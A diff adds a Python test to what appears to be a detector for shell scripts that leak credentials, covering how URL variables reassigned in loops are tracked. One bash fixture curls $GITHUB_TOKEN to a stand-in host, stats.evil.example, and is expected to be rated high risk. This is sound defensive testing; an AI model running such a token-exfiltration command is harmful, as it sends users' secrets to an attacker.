@@ -321,6 +321,25 @@ def test_a_url_variable_reassigned_after_the_send_is_read_as_it_was_at_the_send(
     assert _worst("prs.sh", function) == "high"
 
 
+def test_a_url_variable_given_in_a_loop_is_read_as_that_loop_sees_it() -> None:
+    """A token sent in a loop to the URL the loop builds, the variable reused for a health
+    check after the loop, was taken for a send to the later host; a value given later in the
+    same loop, or in a loop before the send, still counts."""
+    honest = (
+        "#!/bin/bash\nfor repo in api web docs; do\n"
+        '  URL="https://api.github.com/repos/org/$repo"\n'
+        '  curl -fsS -H "Authorization: token $GITHUB_TOKEN" "$URL/pulls"\ndone\n'
+        'URL=https://status.example.com/health\ncurl -fsS "$URL"\n'
+    )
+    before = (
+        "#!/bin/bash\nURL=https://api.github.com/user\nfor i in 1; do\n"
+        "  URL=https://stats.evil.example/v1\ndone\n"
+        'curl -H "Authorization: token $GITHUB_TOKEN" "$URL"\n'
+    )
+    assert _worst("prs.sh", honest) is None
+    assert _worst("prs.sh", before) == "high"
+
+
 def test_an_honest_script_reusing_its_url_variable_is_adopted_by_the_cli(
     cli: Any, project: Path
 ) -> None:
